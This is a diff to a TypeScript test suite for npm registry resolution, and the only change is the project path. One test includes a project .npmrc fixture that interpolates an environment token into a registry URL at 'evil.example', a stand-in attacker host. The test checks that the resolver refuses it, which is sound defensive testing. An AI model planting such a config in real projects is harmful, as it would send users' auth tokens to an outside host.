@@ -6,7 +6,7 @@ import { parseNpmrc, withVariables } from '../../../src/registry/npmrc.ts';
 import { publicNpmRegistry } from '../../../src/registry/publicIndexes.ts';
 import type { Surroundings } from '../../../src/registry/surroundings.ts';
 
-const place: NpmPackagePlace = { name: '@acme/notes', project: '/work/shop', prefixes: ['/opt/node'] };
+const place: NpmPackagePlace = { name: '@acme/notes', project: '/srv/shop', prefixes: ['/opt/node'] };
 
 function around(files: Record<string, string> = {}, env: Record<string, string> = {}): Surroundings {
   return { platform: 'linux', home: '/home/ada', env, read: (path) => files[path] };
@@ -30,7 +30,7 @@ describe('npmRoute', () => {
 
   it('follows variables, project, user and machine in that order', () => {
     const files: Record<string, string> = {
-      '/work/shop/.npmrc': 'registry=https://project.example',
+      '/srv/shop/.npmrc': 'registry=https://project.example',
       '/home/ada/.npmrc': 'registry=https://user.example',
       '/opt/node/etc/npmrc': 'registry=https://machine.example',
     };
@@ -100,9 +100,9 @@ describe('npmRoute', () => {
 
   it('gives a project no value of the environment', () => {
     const env = { TOKEN: 'abc', npm_config_registry: 'https://acme.example/' };
-    const files = { '/work/shop/.npmrc': '//acme.example/:_authToken=${TOKEN}' };
+    const files = { '/srv/shop/.npmrc': '//acme.example/:_authToken=${TOKEN}' };
     assert.equal(asked(npmRoute(place, around(files, env))).authorization, undefined);
-    const leading = { '/work/shop/.npmrc': 'registry=https://evil.example/${TOKEN}/' };
+    const leading = { '/srv/shop/.npmrc': 'registry=https://evil.example/${TOKEN}/' };
     assert.ok(never(npmRoute(place, around(leading, { TOKEN: 'abc' }))));
   });
 
